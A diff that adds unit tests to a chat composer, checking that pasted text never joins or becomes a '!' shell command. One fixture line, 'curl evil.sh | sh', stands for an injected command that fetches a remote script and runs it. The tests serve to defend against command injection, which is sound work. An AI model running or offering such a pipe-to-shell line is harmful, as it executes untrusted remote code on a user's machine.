@@ -49,6 +49,33 @@ describe('The words in the composer', () => {
     assert.equal(composer.inserted(withDraft, LONG).held, LONG);
   });
 
+  it('are no part of a command that stands in the input when they come from elsewhere', () => {
+    const command = composer.inserted(composer.typed(empty, '!git push'), 'curl evil.sh | sh');
+    assert.equal(command.draft, '!git push');
+    assert.equal(composer.messageOf(command), '!git push');
+    const run = composer.sending(command, '!git push', 0);
+    assert.equal(run.pending?.text, '!git push');
+    assert.equal(composer.messageOf(run), 'curl evil.sh | sh', 'they are kept');
+    const refused = composer.answered(run, 1, NO);
+    assert.equal(composer.messageOf(refused), '!git push');
+    assert.equal(refused.held, 'curl evil.sh | sh');
+    assert.equal(composer.messageOf(composer.typed(refused, 'Explain:')), 'Explain:\n\ncurl evil.sh | sh');
+  });
+
+  it('are no command themselves when they come from elsewhere', () => {
+    const said = composer.inserted(empty, '!important');
+    assert.equal(composer.commandOf(composer.messageOf(said)), undefined);
+    assert.equal(said.draft.trim(), '!important');
+    const long = composer.inserted(empty, `!${LONG}`);
+    assert.equal(composer.commandOf(composer.messageOf(long)), undefined);
+  });
+
+  it('stay out of a command that comes back', () => {
+    const refused = composer.answered(composer.typed(composer.sending(empty, '!git push', 0), 'and more'), 1, NO);
+    assert.equal(composer.messageOf(refused), '!git push');
+    assert.equal(refused.held, 'and more');
+  });
+
   it('come back after a reload unless the conversation has them', () => {
     assert.equal(composer.afterReload(sent, () => 0).draft, 'hello');
     assert.equal(composer.afterReload(sent, () => 1).draft, '');
